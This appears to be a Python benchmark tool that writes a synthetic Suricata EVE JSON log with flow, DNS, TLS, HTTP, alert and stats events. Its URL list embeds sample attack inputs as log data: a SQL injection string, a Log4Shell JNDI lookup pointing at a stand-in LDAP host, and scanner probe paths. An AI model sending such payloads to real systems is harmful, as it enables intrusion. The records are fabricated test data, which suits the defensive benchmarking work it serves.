#!/usr/bin/env python3
"""Seeded generator of a realistic Suricata EVE JSON log (eve.json) for benchmarks.

What the data models: a Suricata 7 sensor (`host: sensor-edge1`, interface eth1) watching a
small office network (~400 internal hosts in 10.20.0.0/16 and fd00:20::/64) talking to ~5,000
external servers. Shares by event, approximate, like a typical default eve-log configuration:
  flow 36%   closed/timed-out TCP and UDP flows with pkts/bytes per direction, start/end, age,
             state, reason, and the `tcp` flags object; app_proto http/tls/dns/failed
  dns  30%   version-2 query and answer records (answers with `answers` and `grouped`),
             NOERROR/NXDOMAIN, A/AAAA/CNAME/HTTPS types
  tls  12%   SNI, subject/issuer, serial, fingerprint, validity, TLS 1.2/1.3, ja3/ja3s
  http  9%   hostname, url, user agent, content type, referrer, method, protocol, status,
             length; a share of them scanner requests and URL attacks
  fileinfo 5% files seen in HTTP with filename, magic, size, state, stored, md5/sha256
  alert 7%   ET-style signatures (scan, policy, malware C2, web attacks) with metadata, the
             app-layer object of the flow (http/dns/tls), flow counters, IPv4 and IPv6
  anomaly 1% stream/decoder anomalies
  stats      one `stats` record (a few KB of counters) per 8 s of sensor time
One in ten flows is IPv6. Slashes are escaped (`\\/`) as Suricata's JSON writer does.
Timestamps start at --start and advance so that --events events span --hours hours
(default: 6 h per 1,000,000 events, so the share of stats records does not depend on size).

Same --seed and options, same bytes.

Usage:
  bench/gen_eve.py -o /tmp/eve-1m.json                  # 1,000,000 events, seed 8
  bench/gen_eve.py --events 100000 --seed 3 -o /tmp/eve-100k.json
"""
import argparse
import datetime
import json
import random
import sys

SIGNATURES = [
    (2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2),
    (2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2),
    (2030171, "ET MALWARE Win32/Emotet CnC Activity (POST) M4", "A Network Trojan was detected", 1),
    (2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1),
    (2018358, "ET HUNTING GENERIC SUSPICIOUS POST to Dotted Quad with Fake Browser 1", "Potentially Bad Traffic", 2),
    (2027865, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2),
    (2024897, "ET USER_AGENTS Go HTTP Client User-Agent", "Misc activity", 3),
    (2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1),
    (2210045, "SURICATA STREAM Packet with invalid ack", "Generic Protocol Command Decode", 3),
    (2260002, "SURICATA Applayer Detect protocol only one direction", "Generic Protocol Command Decode", 3),
]
DOMAINS = ["www.google.com", "fonts.gstatic.com", "outlook.office365.com", "login.microsoftonline.com",
           "update.microsoft.com", "api.github.com", "slack.com", "zoom.us", "cdn.jsdelivr.net",
           "www.example.com", "s3.eu-central-1.amazonaws.com", "time.cloudflare.com",
           "connectivity-check.ubuntu.com", "safebrowsing.googleapis.com", "teams.microsoft.com",
           "xn--80ak6aa92e.com", "c2.bad-domain.example", "dl.malware-drop.example",
           "telemetry.vendor.example", "ocsp.digicert.com"]
URLS = ["/", "/index.html", "/api/v2/status", "/favicon.ico", "/update/v1/check?os=win&ver=10.0.19045",
        "/downloads/setup.exe", "/wp-login.php", "/.env", "/cgi-bin/luci",
        "/index.php?id=1%20UNION%20SELECT%201,2,3--", "/api/x?q=${jndi:ldap://198.51.100.9/a}",
        "/static/js/app.js", "/images/banner.jpg", "/ocsp/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
       "Microsoft-CryptoAPI/10.0", "curl/7.88.1", "Go-http-client/1.1", "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
       "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"]
JA3 = [("e7d705a3286e19ea42f587b344ee6865", "771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13-18-51-45-43-27,29-23-24,0"),
       ("cd08e31494f9531f560d64c695473da9", "771,4865-4867-4866-49195-49199-52393,0-23-65281-10-11-16-5-34-51-43-13-45-28,29-23-24-25-256-257,0"),
       ("6734f37431670b3ab4292b8f60f29984", "771,49196-49195-49200-49199-159-158,0-10-11-13-35-23-65281,29-23-24,0")]
FILES = [("setup.exe", "PE32 executable (GUI) Intel 80386, for MS Windows", "application/octet-stream"),
         ("report.pdf", "PDF document, version 1.7", "application/pdf"),
         ("banner.jpg", "JPEG image data, JFIF standard 1.01", "image/jpeg"),
         ("app.js", "ASCII text, with very long lines", "application/javascript"),
         ("update.cab", "Microsoft Cabinet archive data", "application/vnd.ms-cab-compressed")]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--events", type=int, default=1_000_000, help="events to write (default 1,000,000)")
    ap.add_argument("--seed", type=int, default=8, help="random seed (default 8)")
    ap.add_argument("--start", default="2026-11-29T00:00:00", help="first timestamp, UTC")
    ap.add_argument("--hours", type=float, default=None,
                    help="time the log spans (default 6 h per 1,000,000 events, ~46 events/s)")
    ap.add_argument("-o", "--output", default="-", help="output file (default stdout)")
    args = ap.parse_args()
    if args.hours is None:
        args.hours = 6.0 * args.events / 1_000_000

    rng = random.Random(args.seed)
    ri = rng.randint
    r = rng.random
    internal4 = ["10.20.%d.%d" % (ri(0, 15), ri(2, 254)) for _ in range(400)]
    internal6 = ["fd00:20::%x:%x" % (ri(1, 0xffff), ri(1, 0xffff)) for _ in range(100)]
    external4 = ["%d.%d.%d.%d" % (rng.choice([13, 20, 23, 34, 35, 40, 52, 104, 142, 151, 172, 185, 198, 203]),
                                  ri(0, 255), ri(0, 255), ri(1, 254)) for _ in range(5000)]
    external6 = ["2a00:%x:%x::%x" % (ri(0x1000, 0xffff), ri(0, 0xffff), ri(1, 0xffff)) for _ in range(500)]
    resolvers = ["10.20.0.2", "10.20.0.3"]

    t0 = datetime.datetime.fromisoformat(args.start).replace(tzinfo=datetime.timezone.utc).timestamp()
    t = t0
    mean_gap = args.hours * 3600.0 / max(args.events, 1)
    next_stats = t0 + 8.0
    sec_cache = {}

    def ts(x):
        sec = int(x)
        s = sec_cache.get(sec)
        if s is None:
            s = datetime.datetime.fromtimestamp(sec, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
            if len(sec_cache) > 4096:
                sec_cache.clear()
            sec_cache[sec] = s
        return "%s.%06d+0000" % (s, int((x - sec) * 1e6))

    def endpoints(v6):
        if v6:
            return rng.choice(internal6), rng.choice(external6)
        return rng.choice(internal4), rng.choice(external4)

    def flow_obj(start, alerted=False):
        ps, pc = ri(1, 400), ri(0, 600)
        return {"pkts_toserver": ps, "pkts_toclient": pc, "bytes_toserver": ps * ri(60, 900),
                "bytes_toclient": pc * ri(60, 1400), "start": ts(start)}

    def http_obj(host):
        url = rng.choice(URLS)
        return {"hostname": host, "url": url, "http_user_agent": rng.choice(UAS),
                "http_content_type": rng.choice(["text/html", "application/json", "application/octet-stream"]),
                "http_refer": "http://%s/" % host, "http_method": "GET" if r() < 0.8 else "POST",
                "protocol": "HTTP/1.1", "status": rng.choice([200, 200, 200, 301, 304, 404, 403]),
                "length": ri(0, 200000)}

    def tls_obj(host):
        j, js = rng.choice(JA3), rng.choice(JA3)
        return {"subject": "CN=%s" % host, "issuerdn": "C=US, O=Let's Encrypt, CN=R11",
                "serial": ":".join("%02X" % ri(0, 255) for _ in range(9)),
                "fingerprint": ":".join("%02x" % ri(0, 255) for _ in range(20)),
                "sni": host, "version": rng.choice(["TLS 1.2", "TLS 1.3", "TLS 1.3"]),
                "notbefore": "2026-10-01T00:00:00", "notafter": "2026-12-30T23:59:59",
                "ja3": {"hash": j[0], "string": j[1]}, "ja3s": {"hash": js[0], "string": "771,4865,51-43"}}

    def dns_query(host):
        return {"type": "query", "id": ri(0, 65535), "rrname": host,
                "rrtype": rng.choice(["A", "A", "AAAA", "HTTPS"]), "tx_id": 0, "opcode": 0}

    stats_uptime = 0
    out = sys.stdout if args.output == "-" else open(args.output, "w", buffering=1 << 20)
    buf = []
    dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
    for _ in range(args.events):
        t += rng.expovariate(1.0 / mean_gap)
        if t >= next_stats:
            stats_uptime += 8
            next_stats += 8.0
            n = stats_uptime * 2000
            ev = {"timestamp": ts(t), "event_type": "stats", "stats": {
                "uptime": stats_uptime,
                "capture": {"kernel_packets": n * 10, "kernel_drops": n // 1000, "errors": 0},
                "decoder": {k: n * m for k, m in (("pkts", 10), ("bytes", 7000), ("invalid", 0), ("ipv4", 9),
                                                   ("ipv6", 1), ("ethernet", 10), ("tcp", 7), ("udp", 3),
                                                   ("icmpv4", 0), ("icmpv6", 0), ("vlan", 0), ("avg_pkt_size", 0),
                                                   ("max_pkt_size", 0), ("teredo", 0), ("vxlan", 0))},
                "flow": {"memcap": 0, "tcp": n // 3, "udp": n // 2, "icmpv4": 0, "icmpv6": 0,
                         "spare": 10000, "emerg_mode_entered": 0, "memuse": 7074304},
                "tcp": {"sessions": n // 3, "syn": n // 3, "synack": n // 3, "rst": n // 50,
                        "pseudo": 0, "invalid_checksum": 0, "reassembly_gap": 2, "memuse": 4718592},
                "detect": {"engines": [{"id": 0, "last_reload": "2026-11-28T23:59:00.000000+0000",
                                        "rules_loaded": 45211, "rules_failed": 0}], "alert": n // 20},
                "app_layer": {"flow": {p: n // d for p, d in (("http", 10), ("tls", 4), ("dns_udp", 2),
                                                              ("ssh", 200), ("smtp", 500), ("failed_tcp", 40))},
                              "tx": {p: n // d for p, d in (("http", 8), ("tls", 4), ("dns_udp", 1))}},
                "flow_mgr": {"closed_pruned": n // 2, "new_pruned": n // 10, "est_pruned": n // 5},
                "memcap_pressure": 3, "memcap_pressure_max": 12}}
            buf.append(dumps(ev).replace("/", "\\/"))
            continue
        v6 = r() < 0.10
        src, dst = endpoints(v6)
        host = rng.choice(DOMAINS)
        base = {"timestamp": ts(t), "flow_id": ri(1, 2 ** 51), "in_iface": "eth1", "event_type": None,
                "src_ip": src, "src_port": ri(1024, 65535), "dest_ip": dst, "dest_port": 443,
                "proto": "TCP"}
        x = r()
        if x < 0.36:
            app = rng.choice(["tls", "tls", "http", "dns", "failed", "ssh"])
            udp = app == "dns"
            base.update(event_type="flow", proto="UDP" if udp else "TCP",
                        dest_port={"tls": 443, "http": 80, "dns": 53, "failed": rng.choice([22, 3389, 8080, 445]), "ssh": 22}[app])
            if app != "failed" or r() < 0.5:
                base["app_proto"] = app
            f = flow_obj(t - r() * 120)
            f.update(end=ts(t - r()), age=ri(0, 120), state="closed" if not udp else "new",
                     reason=rng.choice(["timeout", "timeout", "shutdown"]), alerted=r() < 0.02)
            base["flow"] = f
            if not udp:
                base["tcp"] = {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": True,
                               "fin": True, "psh": True, "ack": True, "state": "closed"}
            base["community_id"] = "1:%s=" % "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123456789+/") for _ in range(27))
        elif x < 0.66:
            base.update(event_type="dns", proto="UDP", src_ip=src if not v6 else src,
                        dest_ip=rng.choice(resolvers) if not v6 else "fd00:20::53", dest_port=53)
            if r() < 0.5:
                base["dns"] = dns_query(host)
            else:
                rcode = "NOERROR" if r() < 0.9 else "NXDOMAIN"
                d = {"version": 2, "type": "answer", "id": ri(0, 65535), "flags": "8180", "qr": True,
                     "rd": True, "ra": True, "opcode": 0, "rrname": host, "rrtype": "A", "rcode": rcode}
                if rcode == "NOERROR":
                    addrs = [rng.choice(external4) for _ in range(ri(1, 4))]
                    d["answers"] = [{"rrname": host, "rrtype": "A", "ttl": ri(30, 3600), "rdata": a} for a in addrs]
                    d["grouped"] = {"A": addrs}
                base["dns"] = d
        elif x < 0.78:
            base.update(event_type="tls", tx_id=0, tls=tls_obj(host))
        elif x < 0.87:
            base.update(event_type="http", dest_port=80, tx_id=ri(0, 5), http=http_obj(host))
        elif x < 0.92:
            name, magic, ctype = rng.choice(FILES)
            h = http_obj(host)
            h["url"] = "/downloads/" + name
            h["http_content_type"] = ctype
            size = ri(200, 5_000_000)
            base.update(event_type="fileinfo", dest_port=80, app_proto="http", http=h,
                        fileinfo={"filename": "/downloads/" + name, "magic": magic, "gaps": False,
                                  "state": "CLOSED", "md5": "%032x" % rng.getrandbits(128),
                                  "sha256": "%064x" % rng.getrandbits(256), "stored": False,
                                  "size": size, "tx_id": 0})
        elif x < 0.99:
            sid, sig, cat, sev = rng.choice(SIGNATURES)
            base.update(event_type="alert", direction="to_server", tx_id=0,
                        alert={"action": "allowed" if r() < 0.95 else "blocked", "gid": 1,
                               "signature_id": sid, "rev": ri(1, 12), "signature": sig, "category": cat,
                               "severity": sev,
                               "metadata": {"created_at": ["2019_07_26"], "updated_at": ["2024_05_02"],
                                            "signature_severity": ["Major" if sev == 1 else "Minor"],
                                            "attack_target": ["Client_Endpoint"], "deployment": ["Perimeter"]}})
            kind = r()
            if kind < 0.45:
                base.update(dest_port=80, app_proto="http", http=http_obj(host))
            elif kind < 0.7:
                base.update(dest_port=443, app_proto="tls", tls=tls_obj(host))
            elif kind < 0.85:
                base.update(proto="UDP", dest_port=53, app_proto="dns", dns={"query": [dns_query(host)]})
            else:
                base.update(dest_port=22, app_proto="ssh")
            base["flow"] = flow_obj(t - r() * 30)
        else:
            base.update(event_type="anomaly", anomaly={"type": "stream", "event": rng.choice(
                ["stream.pkt_invalid_timestamp", "stream.3whs_synack_with_wrong_ack", "stream.est_packet_out_of_window"])})
        buf.append(dumps(base).replace("/", "\\/"))
        if len(buf) >= 4096:
            out.write("\n".join(buf) + "\n")
            buf.clear()
    if buf:
        out.write("\n".join(buf) + "\n")
    if out is not sys.stdout:
        out.close()


if __name__ == "__main__":
    main()
